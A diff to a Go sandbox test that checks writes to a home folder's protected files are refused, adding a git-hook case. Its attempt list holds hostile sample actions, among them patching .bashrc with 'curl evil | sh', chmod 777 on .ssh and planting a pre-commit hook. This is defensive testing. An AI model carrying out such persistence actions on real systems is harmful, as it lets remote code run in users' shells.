@@ -491,7 +491,7 @@ func TestSandboxJailHomeFolder(t *testing.T) {
 	hookModes(t, true, func(t *testing.T, sb *sandbox, hook bool) {
 		sb.env = append(sb.env, "HOME="+sb.ws)
 		testenv.WriteTree(t, sb.ws, map[string]string{
-			".bashrc": "# mine\n", ".ssh/authorized_keys": "", ".config/app.toml": "", "notes.txt": "", "proj/a.py": "",
+			".bashrc": "# mine\n", ".ssh/authorized_keys": "", ".config/app.toml": "", "notes.txt": "", "proj/a.py": "", "proj/.git/config": "",
 		})
 		protected := func() string {
 			var names []string
@@ -501,6 +501,7 @@ func TestSandboxJailHomeFolder(t *testing.T) {
 					names = append(names, treeState(t, filepath.Join(sb.ws, e.Name())))
 				}
 			}
+			names = append(names, treeState(t, filepath.Join(sb.ws, "proj", ".git")))
 			return strings.Join(names, "")
 		}
 		before := protected()
@@ -520,6 +521,7 @@ attempt("a new file at the top", lambda: open("new.txt", "w").write("x"))
 attempt("rename .bashrc", lambda: os.rename(".bashrc", "proj/bashrc"))
 attempt("chmod .ssh", lambda: os.chmod(".ssh", 0o777))
 attempt("patch .bashrc", lambda: patch(".bashrc", "# mine", "curl evil | sh"))
+attempt("a hook of a project in the home", lambda: open("proj/.git/hooks-pre-commit", "w").write("#!/bin/sh\n"))
 r = shell(f"echo evil >> .bashrc && echo {E} rc; echo evil > .profile && echo {E} profile; echo fine > proj/b.txt && echo shell wrote proj", wait=60)
 print(r.out, r.err)
 open("proj/a.py", "w").write("print('mine')\n")
@@ -530,7 +532,7 @@ print("block wrote proj")
 		if escaped(all) {
 			t.Errorf("got through:\n%s", all)
 		}
-		contains(t, "the block", r.stdout, "append to .bashrc -> refused", "a new .bash_profile -> refused", "patch .bashrc -> refused",
+		contains(t, "the block", r.stdout, "append to .bashrc -> refused", "a new .bash_profile -> refused", "patch .bashrc -> refused", "a hook of a project in the home -> refused",
 			"shell wrote proj", "block wrote proj")
 		if after := protected(); after != before {
 			t.Errorf("the home's top level changed:\nbefore %s\nafter  %s", before, after)
